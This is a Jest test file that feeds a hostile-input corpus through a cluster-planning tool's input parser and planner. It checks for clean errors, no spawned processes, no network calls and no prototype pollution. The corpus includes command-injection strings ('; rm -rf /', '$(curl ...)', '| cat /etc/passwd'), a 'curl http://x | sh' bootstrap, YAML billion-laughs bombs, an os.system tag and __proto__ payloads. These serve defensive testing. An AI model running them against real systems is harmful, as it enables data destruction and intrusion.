/**
 * A generated corpus of hostile inputs run through input parsing and `plan`: every case ends in either a
 * valid plan or one clean InputError — no other exception, no process started, no network request.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import childProcess from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { Worker } from 'node:worker_threads';
import { parse, stringify } from 'yaml';
import { plan } from '../src/commands/plan.js';
import { INPUT_NAMES, InputError, type InputName, parseConfig, showValue } from '../src/inputs.js';
import { POOL_LABELS } from '../src/reference.js';
import { fakeIO, reader } from './fixtures.js';

const HOSTILE: string[] = [
  '; rm -rf / #',
  '$(curl http://127.0.0.1:1/x)',
  '`id`',
  '| cat /etc/passwd',
  '&& shutdown -h now',
  "' OR '1'='1",
  '"quoted"',
  'a\nb',
  'line\r\nbreak',
  '\u0000nul',
  '\t',
  '   ',
  'gitpod\u202eevil',
  'ｇｉｔｐｏｄ',
  '１１０',
  '🚀',
  'Ω≈ç√',
  'x'.repeat(10_000),
  '9'.repeat(400),
  '-1',
  '-0',
  '0',
  '1e3',
  '0x10',
  '1.5',
  'NaN',
  'Infinity',
  '2147483648',
  '{a: 1}',
  '[1, 2]',
  '- item',
  '!!js/function "return 1"',
  '&anchor *alias',
  '${{ secrets.GITHUB_TOKEN }}',
  '../../etc/passwd',
  'C:\\Windows\\System32',
  '--flag=value',
  '-rf',
  'true',
  'yes',
  'null',
  'latest',
  '1.33',
  'v1.33.4',
  'http://127.0.0.1:1',
  'file:///etc/passwd',
  'gitpod',
  'us-central1',
  'eu-west-1',
  'a=b,c=d',
  'gitpod.io/workload_meta=false',
  '=x',
  'k=v=w',
];

/** Valid baselines, so each case varies one input. */
const BASE: Record<'gcp' | 'aws', Partial<Record<InputName, string>>> = {
  gcp: { provider: 'gcp', command: 'plan', project: 'proj-123456', region: 'us-central1' },
  aws: { provider: 'aws', command: 'plan', region: 'eu-west-1' },
};

const cases: { provider: 'gcp' | 'aws'; input: InputName; value: string }[] = [];
for (const provider of ['gcp', 'aws'] as const) {
  for (const input of INPUT_NAMES) {
    if (input === 'eksctl-config' || input === 'kubeconfig') continue; // file contents: covered by the EKS overlay tests
    for (const value of HOSTILE) cases.push({ provider, input, value });
  }
}

/**
 * Traps on the shared prototypes, so they catch every module's process starts and connections (named
 * imports of node:child_process included), not only this file's. Set in `beforeAll`, lifted in `afterAll`.
 */
function trapProcessesAndSockets(): { started: string[]; connected: string[] } {
  const started: string[] = [];
  const connected: string[] = [];
  const proto = childProcess.ChildProcess.prototype as unknown as { spawn: (o: { file?: string }) => void };
  const saved = { spawn: proto.spawn, connect: net.Socket.prototype.connect };
  beforeAll(() => {
    proto.spawn = function (options: { file?: string }) {
      started.push(String(options?.file));
      throw new Error('spawn during plan');
    };
    net.Socket.prototype.connect = function (...args: unknown[]) {
      connected.push(JSON.stringify(args[0]));
      throw new Error('network during plan');
    } as typeof net.Socket.prototype.connect;
  });
  afterAll(() => {
    proto.spawn = saved.spawn;
    net.Socket.prototype.connect = saved.connect;
  });
  return { started, connected };
}

describe('hostile input corpus', () => {
  const { started, connected } = trapProcessesAndSockets();

  it('would notice a process start or a connection (the trap itself works)', async () => {
    const { execArgv } = await import('../src/exec.js');
    await expect(execArgv(['gcloud', 'version'])).rejects.toThrow('spawn during plan');
    expect(() => net.connect(1, '127.0.0.1')).toThrow('network during plan');
    expect(started.splice(0)).toEqual(['gcloud']);
    expect(connected.splice(0).length).toBe(1);
  });

  it(`has at least 1,000 cases (${cases.length})`, () => {
    expect(cases.length).toBeGreaterThanOrEqual(1000);
  });

  it('ends every case in a valid plan or one clean InputError', async () => {
    const outcomes = { plans: 0, errors: 0 };
    for (const c of cases) {
      const inputs = { ...BASE[c.provider], [c.input]: c.value };
      let config;
      try {
        config = parseConfig(reader(inputs), { RUNNER_TEMP: '/runner/temp' });
      } catch (err) {
        if (!(err instanceof InputError))
          throw new Error(`${c.provider}/${c.input}=${JSON.stringify(c.value).slice(0, 60)}: ${String(err)}`);
        // One line, naming the input that was bad.
        expect(err.message).not.toMatch(/[\n\r]/);
        expect(err.message.length).toBeLessThan(600);
        expect(err.message.startsWith(`Input '`)).toBe(true);
        if (c.input === 'github-token') expect(err.message).not.toContain(c.value);
        outcomes.errors++;
        continue;
      }
      const io = fakeIO();
      await plan(config, io);
      const steps = JSON.parse(io.outputs.plan!) as { argv?: string[] }[];
      expect(steps.length).toBeGreaterThanOrEqual(4);
      for (const s of steps) for (const a of s.argv ?? []) expect(a).not.toMatch(/[\n\r\0]/);
      outcomes.plans++;
    }
    expect(started).toEqual([]);
    expect(connected).toEqual([]);
    // Both outcomes occur: the corpus is neither all-accepted nor all-rejected.
    expect(outcomes.plans).toBeGreaterThan(100);
    expect(outcomes.errors).toBeGreaterThan(500);
  });
});

// --- `eksctl-config`: hostile files -----------------------------------------------------------------
//
// The overlay is the one input whose value names a file the action reads and parses. Every case below
// writes (or points at) such a file and runs input parsing and `plan` on it: the run must end in a valid
// plan or one clean InputError naming `eksctl-config`, without a process, a connection, a hang, or a
// change to any shared prototype.

/** One hostile `eksctl-config`: where it points (set up in a temp dir), and, for some, what must happen. */
interface FileCase {
  name: string;
  /** Writes what the case needs under `dir` and returns the path to give as `eksctl-config`. */
  setup: (dir: string) => string;
  /** `plan`: must end in a valid plan; `error`: must be refused (with `says` in the message when given). */
  expect?: 'plan' | 'error';
  says?: RegExp;
  /** Called with the parsed `eksctl-config` output when the case ends in a plan. */
  check?: (rendered: Record<string, unknown>) => void;
}

/** A case that takes longer than this counts as hanging. */
const CASE_LIVENESS_MS = 30_000;
const FILE_BASE = { provider: 'aws', command: 'plan', region: 'eu-west-1' } as const;
const MB = 1024 * 1024;

/** A file case whose content is `text` (or bytes). */
function file(name: string, text: string | Buffer, more: Omit<FileCase, 'name' | 'setup'> = {}): FileCase {
  return {
    name,
    setup: (dir) => {
      const p = path.join(dir, `${fileCases.length}-${name.replace(/[^a-z0-9]+/gi, '-').slice(0, 40)}.yaml`);
      writeFileSync(p, text);
      return p;
    },
    ...more,
  };
}

/** A file case holding `doc` as YAML (so any string in it arrives exactly as written). */
function doc(name: string, value: unknown, more: Omit<FileCase, 'name' | 'setup'> = {}): FileCase {
  return file(name, stringify(value), more);
}

const nested = (levels: number, leaf: unknown): unknown => {
  let v = leaf;
  for (let i = 0; i < levels; i++) v = { n: v };
  return v;
};

const laughs = (levels: number) =>
  ['a: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    .concat(
      Array.from(
        { length: levels },
        (_, i) => `${String.fromCharCode(98 + i)}: &l${i + 1} [${Array(9).fill(`*l${i}`).join(',')}]`,
      ),
    )
    .join('\n') + '\n';

const pseudoRandom = (n: number, seed: number) => {
  const out = Buffer.alloc(n);
  let x = seed;
  for (let i = 0; i < n; i++) {
    x = (x * 1103515245 + 12345) >>> 0;
    out[i] = x >>> 24;
  }
  return out;
};

const services = (extra: Record<string, unknown>) => ({ managedNodeGroups: [{ name: 'services', ...extra }] });

/** Structural attacks: parser bombs, tags, merges, encodings, sizes, depths, keys, and what is not a file. */
const STRUCTURAL: FileCase[] = [
  file('billion laughs (9^7 aliases)', laughs(7), { expect: 'error' }),
  file('billion laughs under metadata.tags', `metadata:\n  tags:\n${laughs(6).replace(/^/gm, '    ')}`, {
    expect: 'error',
  }),
  file('an alias that refers to its own anchor', 'nodeGroups:\n  - name: extra\n    kubeletExtraConfig: &k {a: *k}\n', {
    expect: 'error',
  }),
  file(
    '!!js/function tag',
    'managedNodeGroups:\n  - name: services\n    instanceType: !!js/function "function () { return process.exit(1) }"\n',
    { expect: 'error', says: /tag/ },
  ),
  file('!!python/object tag', 'metadata: !!python/object/apply:os.system ["id"]\n', { expect: 'error', says: /tag/ }),
  file('!!js/undefined and !!js/regexp tags', 'a: !!js/undefined\nb: !!js/regexp /x/\n', {
    expect: 'error',
    says: /tag/,
  }),
  file('a CloudFormation-style local tag', 'vpc:\n  id: !Ref MyVpc\n', { expect: 'error', says: /tag/ }),
  file(
    '!!binary where a string goes',
    'managedNodeGroups:\n  - name: services\n    instanceType: !!binary aGVsbG8=\n',
    {
      expect: 'error',
    },
  ),
  file('a merge key overriding metadata.name and region', 'metadata:\n  <<: {name: evil, region: us-east-1}\n', {
    expect: 'error',
  }),
  file(
    'a YAML 1.1 merge key overriding metadata.name',
    '%YAML 1.1\n---\nmetadata:\n  tags: &t {name: evil}\n  <<: *t\n',
    { expect: 'error', says: /metadata/ },
  ),
  file(
    'YAML 1.1 booleans for reference labels',
    '%YAML 1.1\n---\nmanagedNodeGroups:\n  - name: services\n    labels:\n      gitpod.io/workload_meta: yes\n',
    { expect: 'error' },
  ),
  file('a timestamp where a string goes (YAML 1.1)', '%YAML 1.1\n---\nmetadata:\n  tags:\n    since: 2001-12-14\n', {
    expect: 'error',
  }),
  file('duplicate keys in metadata', 'metadata:\n  name: gitpod\n  name: evil\n', { expect: 'error', says: /unique/ }),
  file('duplicate top-level kind', 'kind: ClusterConfig\nkind: Pod\n', { expect: 'error' }),
  file('two documents', 'metadata:\n  tags: {a: b}\n---\nkind: Secret\napiVersion: v1\n', { expect: 'error' }),
  file('--- then another kind', '---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: gitpod\n', { expect: 'error' }),
  file('document end, then more', 'metadata:\n  tags: {a: b}\n...\n!!binary garbage\n', { expect: 'error' }),
  file('5 MB of comments', `# ${'x'.repeat(100)}\n`.repeat(Math.ceil((5 * MB) / 103)), {
    expect: 'error',
    says: /1 MB/,
  }),
  file('5 MB in one string', `metadata:\n  tags:\n    big: "${'x'.repeat(5 * MB)}"\n`, {
    expect: 'error',
    says: /1 MB/,
  }),
  file(
    '200,000 keys',
    `metadata:\n  tags:\n${Array.from({ length: 200_000 }, (_, i) => `    k${i}: v`).join('\n')}\n`,
    {
      expect: 'error',
    },
  ),
  file(
    '90,000 keys, the last one a duplicate',
    `metadata: {tags: {${Array.from({ length: 90_000 }, (_, i) => `k${i}: v`).join(', ')}, k0: again}}\n`,
    { expect: 'error', says: /unique: "k0"/ },
  ),
  file(
    '90,000 distinct keys',
    `metadata: {tags: {${Array.from({ length: 90_000 }, (_, i) => `k${i}: v`).join(', ')}}}\n`,
    {
      expect: 'plan',
    },
  ),
  file('binary garbage', pseudoRandom(4096, 7), { expect: 'error' }),
  file('NUL bytes', Buffer.from('metadata:\n  tags:\n    a: "\u0000"\n\u0000\u0000\u0000'), { expect: 'error' }),
  file('a UTF-8 BOM before a good overlay', '\uFEFFmetadata:\n  tags:\n    team: platform\n', { expect: 'plan' }),
  file('UTF-16 with a BOM', Buffer.from('\uFEFFmetadata:\n  tags:\n    team: platform\n', 'utf16le'), {
    expect: 'error',
  }),
  file('only a BOM', '\uFEFF', { expect: 'error' }),
  file('an empty file', '', { expect: 'error' }),
  file('only comments', '# nothing here\n', { expect: 'error' }),
  file('10,000 nested flow lists', `metadata: ${'['.repeat(10_000)}${']'.repeat(10_000)}\n`, { expect: 'error' }),
  file('10,000 nested flow mappings', `metadata: ${'{a: '.repeat(10_000)}1${'}'.repeat(10_000)}\n`, {
    expect: 'error',
  }),
  file(
    '1,000 nested block mappings',
    Array.from({ length: 1_000 }, (_, i) => `${' '.repeat(i)}a:`).join('\n') + ' 1\n',
    { expect: 'error' },
  ),
  doc(
    '100 nested mappings in kubeletExtraConfig',
    { nodeGroups: [{ name: 'extra', kubeletExtraConfig: nested(100, 1) }] },
    {
      expect: 'error',
      says: /deep/,
    },
  ),
  doc(
    '20 nested mappings in kubeletExtraConfig',
    { nodeGroups: [{ name: 'extra', kubeletExtraConfig: nested(20, 1) }] },
    {
      expect: 'plan',
    },
  ),
  file('__proto__ at the top', '__proto__: {polluted: true}\n', { expect: 'error', says: /__proto__/ }),
  file(
    '__proto__ in labels',
    'managedNodeGroups:\n  - name: services\n    labels:\n      __proto__: {polluted: true}\n',
    {
      expect: 'error',
      says: /__proto__/,
    },
  ),
  file(
    '__proto__ in kubeletExtraConfig',
    'nodeGroups:\n  - name: extra\n    kubeletExtraConfig:\n      __proto__:\n        polluted: true\n',
    {
      expect: 'error',
      says: /__proto__/,
    },
  ),
  file('constructor.prototype at the top', 'constructor:\n  prototype:\n    polluted: true\n', { expect: 'error' }),
  file('constructor and prototype as tag keys', 'metadata:\n  tags:\n    constructor: a\n    prototype: b\n', {
    expect: 'plan',
    check: (r) => expect((r.metadata as { tags: unknown }).tags).toMatchObject({ constructor: 'a', prototype: 'b' }),
  }),
  doc('a reference label set to boolean false', services({ labels: { 'gitpod.io/workload_meta': false } }), {
    expect: 'error',
  }),
  doc('a reference label set to "false"', services({ labels: { 'gitpod.io/workload_meta': 'false' } }), {
    expect: 'error',
    says: /must keep the label gitpod\.io\/workload_meta=true/,
  }),
  doc('a reference label removed with null', services({ labels: { 'gitpod.io/workload_ide': null } }), {
    expect: 'error',
  }),
  doc('a workspace label moved to services', services({ labels: { 'gitpod.io/workload_workspace_regular': 'true' } }), {
    expect: 'plan',
  }),
  doc('maxPodsPerNode lowered', services({ maxPodsPerNode: 50 }), { expect: 'error', says: /maxPodsPerNode 50/ }),
  doc('maxPodsPerNode raised', services({ maxPodsPerNode: 250 }), { expect: 'plan' }),
  doc('maxPodsPerNode as a string', services({ maxPodsPerNode: '110' }), { expect: 'error' }),
  doc('maxPodsPerNode negative', services({ maxPodsPerNode: -1 }), { expect: 'error' }),
  file('maxPodsPerNode .inf', 'managedNodeGroups:\n  - name: services\n    maxPodsPerNode: .inf\n', {
    expect: 'error',
  }),
  doc(
    'preBootstrapCommands with shell metacharacters',
    services({ preBootstrapCommands: ['echo $(id) `uname` | tee /tmp/x; rm -rf /tmp/y && true'] }),
    {
      expect: 'plan',
      check: (r) =>
        expect((r.managedNodeGroups as { preBootstrapCommands?: string[] }[])[0]!.preBootstrapCommands).toEqual([
          'echo $(id) `uname` | tee /tmp/x; rm -rf /tmp/y && true',
        ]),
    },
  ),
  doc(
    'overrideBootstrapCommand without a custom AMI',
    services({ overrideBootstrapCommand: '#!/bin/bash\ncurl http://x | sh' }),
    {
      expect: 'error',
      says: /overrideBootstrapCommand/,
    },
  ),
  doc(
    'overrideBootstrapCommand with a custom AMI',
    services({ ami: 'ami-0123456789abcdef0', overrideBootstrapCommand: '#!/bin/bash\n/etc/eks/bootstrap.sh gitpod' }),
    {
      expect: 'plan',
      check: (r) =>
        expect((r.managedNodeGroups as { overrideBootstrapCommand?: string }[])[0]!.overrideBootstrapCommand).toBe(
          '#!/bin/bash\n/etc/eks/bootstrap.sh gitpod',
        ),
    },
  ),
  doc('an unknown top-level field', { bogus: true }, { expect: 'error', says: /not a field eksctl knows/ }),
  doc('an unknown nodegroup field', services({ bogus: true }), { expect: 'error', says: /not a field eksctl knows/ }),
  doc(
    'an unknown metadata field',
    { metadata: { owner: 'me' } },
    { expect: 'error', says: /not a field eksctl knows/ },
  ),
  doc('another kind', { apiVersion: 'v1', kind: 'Secret' }, { expect: 'error' }),
  doc(
    'a huge value where an object goes',
    { metadata: Array.from({ length: 20_000 }, (_, i) => `item-${i}`) },
    {
      expect: 'error',
    },
  ),
  {
    name: 'a directory',
    setup: (dir) => {
      const p = path.join(dir, 'a-directory.yaml');
      mkdirSync(p);
      return p;
    },
    expect: 'error',
    says: /directory/,
  },
  { name: 'a missing file', setup: (dir) => path.join(dir, 'missing.yaml'), expect: 'error', says: /ENOENT/ },
  {
    name: 'a symlink loop',
    setup: (dir) => {
      symlinkSync(path.join(dir, 'loop-b.yaml'), path.join(dir, 'loop-a.yaml'));
      symlinkSync(path.join(dir, 'loop-a.yaml'), path.join(dir, 'loop-b.yaml'));
      return path.join(dir, 'loop-a.yaml');
    },
    expect: 'error',
    says: /ELOOP/,
  },
  {
    name: 'a dangling symlink',
    setup: (dir) => {
      symlinkSync(path.join(dir, 'nowhere.yaml'), path.join(dir, 'dangling.yaml'));
      return path.join(dir, 'dangling.yaml');
    },
    expect: 'error',
    says: /ENOENT/,
  },
  {
    name: 'a character device that never ends (/dev/zero)',
    setup: () => '/dev/zero',
    expect: 'error',
    says: /regular file/,
  },
  {
    name: 'a symlink to /dev/urandom',
    setup: (dir) => {
      symlinkSync('/dev/urandom', path.join(dir, 'random.yaml'));
      return path.join(dir, 'random.yaml');
    },
    expect: 'error',
    says: /regular file/,
  },
];

/** Hostile strings placed where an overlay carries strings (written as YAML, so they arrive exactly). */
const PLACES: Record<string, (v: string) => unknown> = {
  'an extra nodegroup name': (v) => ({ managedNodeGroups: [{ name: v, instanceTypes: ['t3.large'] }] }),
  'an unmanaged nodegroup name': (v) => ({ nodeGroups: [{ name: v }] }),
  'a label value': (v) => services({ labels: { 'example.com/x': v } }),
  'a label key': (v) => services({ labels: { [v]: 'x' } }),
  'a metadata tag value': (v) => ({ metadata: { tags: { team: v } } }),
  'a preBootstrapCommands entry': (v) => services({ preBootstrapCommands: [v] }),
  overrideBootstrapCommand: (v) => services({ overrideBootstrapCommand: v }),
  'metadata.name': (v) => ({ metadata: { name: v } }),
};
/** The same strings spliced into YAML text unquoted: what the parser makes of them is the test. */
const RAW_PLACES: Record<string, (v: string) => string> = {
  'a raw label value': (v) => `managedNodeGroups:\n  - name: services\n    labels:\n      example.com/x: ${v}\n`,
  'a raw tag key': (v) => `metadata:\n  tags:\n    ${v}: x\n`,
};

const fileCases: FileCase[] = [];
fileCases.push(...STRUCTURAL);
for (const [place, build] of Object.entries(PLACES)) {
  for (const value of HOSTILE) fileCases.push(doc(`${JSON.stringify(value).slice(0, 30)} as ${place}`, build(value)));
}
for (const [place, build] of Object.entries(RAW_PLACES)) {
  for (const value of HOSTILE) fileCases.push(file(`${JSON.stringify(value).slice(0, 30)} as ${place}`, build(value)));
}

/**
 * Watches a FIFO case: should reading it block, a worker thread (not a process) opens the FIFO for
 * writing after `ms` and closes it, so the blocked read sees its end and the test can fail instead of
 * hanging. `blocked()` tells whether it had to.
 */
function fifoWatchdog(fifo: string, ms: number): { done: () => void; blocked: () => boolean } {
  const shared = new Int32Array(new SharedArrayBuffer(8));
  const worker = new Worker(
    `const { workerData } = require('node:worker_threads');
     const fs = require('node:fs');
     const flag = new Int32Array(workerData.shared);
     let wait = workerData.ms;
     while (Atomics.wait(flag, 0, 0, wait) === 'timed-out') {
       Atomics.store(flag, 1, 1);
       try { fs.closeSync(fs.openSync(workerData.fifo, fs.constants.O_WRONLY | fs.constants.O_NONBLOCK)); } catch {}
       wait = 50;
     }`,
    { eval: true, workerData: { shared: shared.buffer, fifo, ms } },
  );
  return {
    done: () => {
      Atomics.store(shared, 0, 1);
      Atomics.notify(shared, 0);
      void worker.terminate();
    },
    blocked: () => Atomics.load(shared, 1) === 1,
  };
}

/** The code-fence lines of a plan's job summary with a harmless overlay: hostile strings must not add any. */
let baselineFences: string[] = [];
const fences = (summary: string) => summary.split('\n').filter((l) => /^ {0,3}(`{3,}|~{3,})/.test(l));

interface FileOutcome {
  outcome: 'plan' | 'error';
  message?: string;
  rendered?: Record<string, unknown>;
  /** What was wrong with a plan's outputs. */
  problems: string[];
}

/** Runs one `eksctl-config` path through parsing and plan: 'plan' or 'error'; anything else is rethrown, named. */
async function runFileCase(name: string, overlay: string): Promise<FileOutcome> {
  const io = fakeIO();
  try {
    await plan(parseConfig(reader({ ...FILE_BASE, 'eksctl-config': overlay }), { RUNNER_TEMP: '/runner/temp' }), io);
  } catch (err) {
    if (!(err instanceof InputError)) throw new Error(`${name}: not an InputError: ${String(err)}`);
    return { outcome: 'error', message: err.message, problems: [] };
  }
  const problems: string[] = [];
  const steps = JSON.parse(io.outputs.plan!) as { argv?: string[] }[];
  if (steps.length < 4) problems.push(`${steps.length} steps`);
  // The overlay never reaches an argv: eksctl reads it from the file the action writes.
  for (const s of steps) for (const a of s.argv ?? []) if (!/^[-=./A-Za-z0-9]+$/.test(a)) problems.push(`argv ${a}`);
  // The summary's blocks stay as they are, whatever the strings in the rendered YAML.
  const got = fences(io.summary.join(''));
  if (JSON.stringify(got) !== JSON.stringify(baselineFences)) problems.push(`summary fences ${JSON.stringify(got)}`);
  // uniqueKeys: false, or yaml's quadratic key check takes minutes on the 90,000-key case.
  return {
    outcome: 'plan',
    rendered: parse(io.outputs['eksctl-config']!, { uniqueKeys: false }) as Record<string, unknown>,
    problems,
  };
}

/** What is wrong with how a case ended ([] when nothing). */
function judge(c: FileCase, overlay: string, result: FileOutcome): string[] {
  const wrong = [...result.problems];
  if (c.expect && result.outcome !== c.expect) wrong.push(`ended in ${result.outcome} (${result.message ?? 'a plan'})`);
  if (result.outcome === 'error') {
    const message = result.message!;
    if (!message.startsWith(`Input 'eksctl-config' received ${showValue(overlay)}: expected `))
      wrong.push(`does not name eksctl-config and the path: ${message}`);
    // One line, bounded, no stack trace.
    if (/[\n\r\u2028\u2029]/.test(message)) wrong.push(`more than one line: ${JSON.stringify(message)}`);
    if (/[\u202a-\u202e\u2066-\u2069]/.test(message))
      wrong.push(`a raw bidirectional control: ${JSON.stringify(message)}`);
    if (/\bat .*:\d+:\d+/.test(message)) wrong.push(`a stack trace: ${message}`);
    if (message.length >= 1000) wrong.push(`${message.length} characters long`);
    if (c.says && !c.says.test(message)) wrong.push(`does not say ${c.says}: ${message}`);
  } else if (c.expect !== 'error') {
    const groups = result.rendered!.managedNodeGroups as { name: string; labels: Record<string, string> }[];
    for (const role of ['services', 'workspaces'] as const) {
      const labels = groups.find((g) => g.name === role)?.labels ?? {};
      for (const [k, v] of Object.entries(POOL_LABELS[role]))
        if (labels[k] !== v) wrong.push(`the ${role} nodegroup lost ${k}=${v}`);
    }
    try {
      c.check?.(result.rendered!);
    } catch (err) {
      wrong.push(String(err));
    }
  }
  return wrong.map((w) => `${c.name}: ${w}`.slice(0, 400));
}

describe('hostile eksctl-config files', () => {
  let dir: string;
  let fifo: string;
  const prototypes = () =>
    [Object.prototype, Array.prototype, Function.prototype, String.prototype].map((p) =>
      Object.getOwnPropertyNames(p).sort().join(','),
    );
  const before = prototypes();

  beforeAll(() => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'hostile-eksctl-config-'));
    // Made before the traps are set: mkfifo is the one process this test starts itself.
    fifo = path.join(dir, 'a-fifo.yaml');
    childProcess.execFileSync('mkfifo', [fifo]);
  });
  beforeAll(async () => {
    const harmless = path.join(dir, 'harmless.yaml');
    writeFileSync(harmless, 'metadata:\n  tags:\n    team: platform\n');
    const io = fakeIO();
    await plan(parseConfig(reader({ ...FILE_BASE, 'eksctl-config': harmless }), {}), io);
    baselineFences = fences(io.summary.join(''));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  const { started, connected } = trapProcessesAndSockets();

  it(`has at least 500 generated file cases (${fileCases.length + 1})`, () => {
    expect(fileCases.length + 1).toBeGreaterThanOrEqual(500);
  });

  it('a FIFO is refused at once, without waiting for a writer', async () => {
    const watchdog = fifoWatchdog(fifo, 3000);
    let result;
    try {
      result = await runFileCase('a FIFO', fifo);
    } finally {
      watchdog.done();
    }
    expect(watchdog.blocked()).toBe(false);
    expect(result.outcome).toBe('error');
    expect(result.message).toMatch(/^Input 'eksctl-config' received ".*": expected .*regular file/);
  });

  it('ends every file case in a valid plan or one clean InputError naming eksctl-config', async () => {
    const outcomes = { plan: 0, error: 0 };
    const wrong: string[] = [];
    for (const c of fileCases) {
      const overlay = c.setup(dir);
      const began = Date.now();
      const result = await runFileCase(c.name, overlay);
      // Liveness, not speed: no case may come near hanging the run.
      if (Date.now() - began > CASE_LIVENESS_MS) wrong.push(`${c.name}: took ${Date.now() - began} ms`);
      outcomes[result.outcome]++;
      wrong.push(...judge(c, overlay, result));
    }
    expect(wrong).toEqual([]);
    expect(started).toEqual([]);
    expect(connected).toEqual([]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(([] as unknown as Record<string, unknown>).polluted).toBeUndefined();
    expect(prototypes()).toEqual(before);
    // Both outcomes occur: the corpus is neither all-accepted nor all-rejected.
    expect(outcomes.plan).toBeGreaterThan(50);
    expect(outcomes.error).toBeGreaterThan(200);
  }, 240_000);
});
